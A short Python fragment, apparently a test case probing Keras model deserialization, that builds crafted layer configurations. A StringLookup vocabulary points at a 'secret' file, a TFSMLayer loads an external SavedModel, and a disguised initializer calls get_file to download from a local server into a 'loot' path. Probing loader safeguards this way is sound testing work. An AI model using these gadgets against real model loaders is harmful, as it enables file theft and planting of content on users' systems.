"""Answers with the configurations of layers that open files.

stopped by: plain data only
unfenced: held
says: expected a NumPy array
"""


# %%
def half(n):
    if n < 0:
        raise ValueError("negative")
    return n // 2


def layer(name, **config):
    return {"module": "keras.layers", "class_name": name, "config": config, "registered_name": None}


LAYERS = {
    (2,): layer("StringLookup", vocabulary=f"{BAIT}/secret"),
    (1, 3): layer("TFSMLayer", filepath=COURSE, call_endpoint="serve"),
}
DOWNLOAD = {"module": "keras.utils", "class_name": "function", "config": "get_file", "args": [f"{BAIT}/open/loot", f"http://127.0.0.1:{PORT}/"]}


def double(x):
    return LAYERS.get(x.shape, {"initializer": DOWNLOAD})
